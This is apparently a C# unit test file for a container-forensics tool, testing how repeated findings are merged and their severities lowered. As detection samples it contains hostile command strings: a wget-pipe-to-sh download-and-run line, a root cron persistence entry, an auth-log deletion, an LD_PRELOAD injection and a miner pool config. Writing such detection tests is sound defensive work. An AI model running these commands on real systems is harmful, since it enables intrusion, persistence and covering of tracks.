using StoreForensics.Findings.Causes;
using StoreForensics.Model;
using StoreForensics.Primitives;

namespace StoreForensics.Tests.Findings;

/// <summary>Of several findings about one thing the gravest stands; the others are low and lead to it. Two things stay two.</summary>
[TestFixture]
internal sealed class RepeatedSignsTests
{
    private static readonly StoreInfo s_store = new() { Name = "overlay2", Driver = "overlay2", Era = "layered", Root = default };

    [Test]
    public void Of_one_file_what_it_is_stands_and_where_it_lies_does_not()
    {
        Finding[] found = Lower([
            Of("miner", FindingSeverity.High, "web", "/tmp/.x"), Of("file-in-tmp", FindingSeverity.High, "web", "/tmp/.x"),
            Of("shell-renamed", FindingSeverity.Medium, "web", "/tmp/.x"),
        ]);
        Assert.That(Words(found), Is.EquivalentTo(new[] { "miner high", "file-in-tmp low", "shell-renamed low" }));
        Finding shell = found.Single(f => f.Rule == "shell-renamed");
        Assert.That((shell.Alone, shell.Weight, shell.Reason),
            Is.EqualTo(((FindingSeverity?)FindingSeverity.Medium, FindingSeverity.Medium, "It is so; more of this file under: Title of miner.")));
    }

    /// <summary>A copy that loses modes has no set-uid files: what else there is about the file is as grave in it as in the whole.</summary>
    [TestCase("setid-added", "file-hidden", "high")]
    [TestCase("setid-added", "file-in-tmp", "high")]
    [TestCase("file-in-tmp", "shell-renamed", "high")]
    [TestCase("miner", "file-hidden", "low")]
    [TestCase("file-hidden", "file-time-kept", "low")]
    public void What_a_copy_may_lose_tells_of_nothing_that_it_keeps(string graver, string other, string expected)
    {
        Finding[] found = Lower([Of(graver, FindingSeverity.Critical, "web", "/usr/lib/.x"), Of(other, FindingSeverity.High, "web", "/usr/lib/.x")]);
        Assert.That(Words(found), Is.EquivalentTo(new[] { $"{graver} critical", $"{other} {expected}" }));
    }

    [TestCase("shell-renamed", "db", "/tmp/.x", TestName = "Another_container")]
    [TestCase("shell-renamed", "web", "/tmp/.y", TestName = "Another_file")]
    [TestCase("preload-variable", "web", "/tmp/.x", TestName = "What_a_file_is_used_for")]
    [TestCase("rule-of-ones-own", "web", "/tmp/.x", TestName = "A_rule_of_ones_own")]
    [TestCase("layer-altered", "web", "/tmp/.x", TestName = "A_file_that_was_altered")]
    public void Stays(string rule, string subject, string path)
    {
        Finding[] found = Lower([Of("setid-added", FindingSeverity.High, "web", "/tmp/.x"), Of(rule, FindingSeverity.Medium, subject, path)]);
        Assert.That(Words(found), Is.EquivalentTo(new[] { "setid-added high", $"{rule} medium" }));
    }

    [TestCase("echo '* * * * * root x|sh' > /etc/cron.d/job", 5, "low")]
    [TestCase("wget -qO- http://192.0.2.1/a | sh", 5, "high")]
    [TestCase("echo '* * * * * root x|sh' > /etc/cron.d/job", 6, "high")]
    public void A_command_and_the_file_that_it_wrote(string command, int second, string expected)
    {
        Finding step = Of("command-download-run", FindingSeverity.High, "app:1") with { Quoted = command, Time = new Timestamp(second, 0) };
        Finding file = Of("command-download-run", FindingSeverity.High, "app:1", "/etc/cron.d/job") with
        {
            Time = new Timestamp(5, 0),
            Entries = [default],
        };
        Assert.That(Lower([step, file]).Single(f => f.Path is null).Severity.Word(), Is.EqualTo(expected));
    }

    /// <summary>A copy may lose the mark of the deletion, and never the command.</summary>
    [Test]
    public void A_command_stands_beside_the_log_that_it_deleted()
    {
        Finding wiped = Of("history-wiped", FindingSeverity.Medium, "app:1") with { Quoted = "rm -f /var/log/auth.log" };
        Assert.That(Lower([wiped, Of("log-wiped", FindingSeverity.Medium, "app:1", "/var/log/auth.log")]).Select(f => f.Severity),
            Has.All.EqualTo(FindingSeverity.Medium));
    }

    /// <summary>What the image sets is told of the image; what runs is told of the container that runs it, not of its log or of the image.</summary>
    [Test]
    public void What_a_container_has_of_its_image()
    {
        Finding[] found = Lower([
            Of("preload-variable", FindingSeverity.High, "app:1", "/lib/x.so") with { Quoted = "LD_PRELOAD=/lib/x.so" },
            Of("preload-variable", FindingSeverity.High, "web", "/lib/x.so") with { Quoted = "LD_PRELOAD=/lib/x.so" },
            Of("miner", FindingSeverity.High, "app:1") with { Quoted = "CMD [\"sh\" \"-c\" \"echo share accepted\"]" },
            Of("miner", FindingSeverity.High, "web") with { Quoted = "sh -c echo share accepted" },
            Of("miner", FindingSeverity.Medium, "web") with { Quoted = "share accepted\n", Reason = "A line." },
        ], Facts("running"));
        Assert.That(found.Where(f => f.Severity > FindingSeverity.Low).Select(f => $"{f.Rule} {f.Subjects[0]}"),
            Is.EquivalentTo(new[] { "preload-variable app:1", "miner web" }));
    }

    [TestCase("running", "container-host-path high, container-unconfined high")]
    [TestCase("created", "container-host-path high, container-unconfined low")]
    public void Settings_that_never_took_effect(string state, string expected)
    {
        Finding[] found = Lower(
            [Of("container-unconfined", FindingSeverity.High, "web"), Of("container-host-path", FindingSeverity.High, "web")], Facts(state));
        Assert.That(string.Join(", ", Words(found).Order(StringComparer.Ordinal)), Is.EqualTo(expected));
    }

    [Test]
    public void Capabilities_of_a_privileged_container()
    {
        Finding[] found = Lower([Of("container-capability", FindingSeverity.High, "web"), Of("container-privileged", FindingSeverity.High, "web")]);
        Assert.That(Words(found), Is.EquivalentTo(new[] { "container-privileged high", "container-capability low" }));
    }

    [Test]
    public void Odd_names_in_one_directory()
    {
        Finding[] found = Lower([
            Of("name-hostile", FindingSeverity.Medium, "web", "/data/a"), Of("odd-name", FindingSeverity.Medium, "web", "/data/b"),
            Of("odd-name", FindingSeverity.Medium, "web", "/srv/b"),
        ]);
        string?[] standing = [.. found.Where(f => f.Severity == FindingSeverity.Medium).Select(f => f.Path?.ToString())];
        Assert.That(standing, Has.Length.EqualTo(2));
        Assert.That(standing, Has.Member("/srv/b"));
    }

    /// <summary>Builds make directories anew; beside something else it may be part of it.</summary>
    [TestCase("secret-in-metadata", "low")]
    [TestCase("setid-added", "medium")]
    public void A_directory_made_anew(string other, string expected)
    {
        Finding[] found = Lower([
            Of("directory-replaced", FindingSeverity.Medium, "app:1", "/etc/app/a.conf"),
            Of(other, FindingSeverity.High, "app:1", other == "setid-added" ? "/bin/x" : null),
        ]);
        Assert.That(found.Single(f => f.Rule == "directory-replaced").Severity.Word(), Is.EqualTo(expected));
    }

    /// <summary>The context of a build lies in the builder's cache: what it says is told of the image.</summary>
    [Test]
    public void A_file_of_no_image_that_says_what_an_image_says()
    {
        Finding copy = Of("miner-config", FindingSeverity.High, "", "/kit/c.json") with { Reason = "/kit/c.json names a pool or wallet: {\"pool\":\"x:3333\"}" };
        Finding image = Of("miner-config", FindingSeverity.High, "app:1", "/c.json") with { Reason = "/c.json names a pool or wallet: {\"pool\":\"x:3333\"}" };
        Assert.That(Words(Lower([copy, image]).Where(f => f.Subjects.Count == 0)), Is.EqualTo(new[] { "miner-config low" }));
        Assert.That(Words(Lower([copy])), Is.EqualTo(new[] { "miner-config high" }));
    }

    private static ContainerFacts Facts(string state)
    {
        var inventory = new Inventory();
        var image = new Image { Id = "sha256:1", Store = s_store, Origin = default };
        image.References.Add(new ImageReference("app", "1", null));
        inventory.Images.Add(image);
        inventory.Containers.Add(new Container { Id = new string('a', 64), Name = "web", State = state, Store = s_store, Origin = default, Image = image });
        return ContainerFacts.Of(inventory);
    }

    private static Finding[] Lower(IEnumerable<Finding> findings, ContainerFacts? facts = null) =>
        [.. RepeatedSigns.Lower(findings, facts ?? ContainerFacts.None)];

    private static IEnumerable<string> Words(IEnumerable<Finding> findings) => findings.Select(f => $"{f.Rule} {f.Severity.Word()}");

    private static Finding Of(string rule, FindingSeverity severity, string subject, string? path = null) => new()
    {
        Rule = rule,
        Severity = severity,
        Confidence = FindingConfidence.Medium,
        Title = "Title of " + rule,
        Reason = "It is so.",
        Attack = [],
        Next = "",
        Subjects = subject.Length == 0 ? [] : [subject],
        Path = path is null ? (EvidencePath?)null : EvidencePath.FromString(path),
        Origins = [new Origin("test", default)],
    };
}
